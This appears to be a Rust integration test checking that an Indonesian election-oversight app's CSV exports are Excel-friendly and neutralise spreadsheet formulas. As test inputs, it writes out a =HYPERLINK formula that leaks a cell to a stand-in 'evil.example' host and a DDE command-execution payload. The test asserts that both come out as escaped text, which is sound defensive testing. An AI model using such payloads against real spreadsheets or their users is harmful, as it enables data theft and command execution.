//! Spreadsheets Sinergi hands out, as an Indonesian office opens them in Excel: `;`-separated
//! with a byte order mark, names beside codes, states and dates in words, and no cell that a
//! spreadsheet would run as a formula even when a citizen typed one — on SQLite and on
//! PostgreSQL. (The TPS export and its round trip are in cli.rs, the results export in
//! results.rs.)

mod common;

use common::{TestApp, TestDb, add_user, cell, json, sheet_rows};

const PW: &str = "rahasia-kuat-1";
const MONTHS: [&str; 12] = ["Januari", "Februari", "Maret", "April", "Mei", "Juni", "Juli", "Agustus", "September", "Oktober", "November", "Desember"];

fn exports_neutralise_formulas(db: &TestDb) {
    add_user(db, "bawaslu.mjk", "bawaslu", "35.76", "operator", PW);
    let app = TestApp::spawn(db);
    let bawaslu = app.login("bawaslu.mjk", PW);
    let cookie = format!("sinergi_session={bawaslu}");

    // A citizen's report whose reported party is a formula.
    let now = time::OffsetDateTime::now_utc();
    let rfc = |h: i64| (now - time::Duration::hours(h)).format(&time::format_description::well_known::Rfc3339).expect("time");
    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klik\")";
    let (s, v) = app.post(
        "/api/v1/reports",
        None,
        &json!({
            "election": "pilkada-2024", "region": "35.76.02.1008",
            "reporter": {"name": "Siti", "address": "Jl. Empunala 12", "contact": "0812"},
            "reported": evil, "event_at": rfc(30), "known_at": rfc(26), "place": "Dekat TPS 001",
            "description": "Pembagian uang", "witnesses": [],
        }),
    );
    assert_eq!(s, 201, "{v}");
    let (s, ctype, csv) = app.get_text("/laporan/unduh.csv", Some(&cookie));
    assert_eq!(s, 200, "{csv}");
    assert!(ctype.starts_with("text/csv"));
    let rows = sheet_rows(&csv);
    assert_eq!(rows.len(), 2, "{rows:?}");
    assert_eq!(cell(&rows, 1, "terlapor"), format!("'{evil}"), "the formula is text");
    assert_eq!(cell(&rows, 1, "wilayah"), "Balongsari", "the place by name beside its code");
    assert_eq!(cell(&rows, 1, "kode_wilayah"), "35.76.02.1008");
    assert_eq!(cell(&rows, 1, "pemilihan"), "Pilkada Serentak 2024", "{:?}", rows[1]);
    assert!(!cell(&rows, 1, "status").contains('_') && !cell(&rows, 1, "status").is_empty(), "a state in words: {:?}", rows[1]);
    let received = cell(&rows, 1, "diterima");
    assert!(MONTHS.iter().any(|m| received.contains(&format!(" {m} "))) && received.ends_with(" WIB"), "a date in words: {received}");

    // Budget lines typed by officials.
    for (program, activity) in [("=1+1", "@SUM(A1:A9)"), ("+62 812", "-cmd|' /C calc'!A0")] {
        let (s, v) = app.post(
            "/api/v1/budget/lines",
            Some(&bawaslu),
            &json!({"program": program, "activity": activity, "region": "35.76", "unit": "Bawaslu Kota Mojokerto", "amount": 1_250_000, "stage": "kampanye"}),
        );
        assert_eq!(s, 201, "{v}");
    }
    let bytes = app.get_bytes("/api/v1/budget/export?region=35.76&format=csv", &bawaslu);
    let rows = sheet_rows(&String::from_utf8(bytes).expect("utf-8"));
    let mut cells: Vec<(&str, &str)> = (1..rows.len()).map(|r| (cell(&rows, r, "program"), cell(&rows, r, "kegiatan"))).collect();
    cells.sort();
    assert_eq!(cells, [("'+62 812", "'-cmd|' /C calc'!A0"), ("'=1+1", "'@SUM(A1:A9)")], "{rows:?}");
    assert_eq!(cell(&rows, 1, "rupiah"), "1250000", "amounts stay numbers");
    assert_eq!(cell(&rows, 1, "wilayah"), "Kota Mojokerto");
    assert_eq!(cell(&rows, 1, "tahapan_atau_jatuh_tempo"), "Kampanye", "the stage by name, not its key");
}

on_both_engines!(exports_neutralise_formulas);
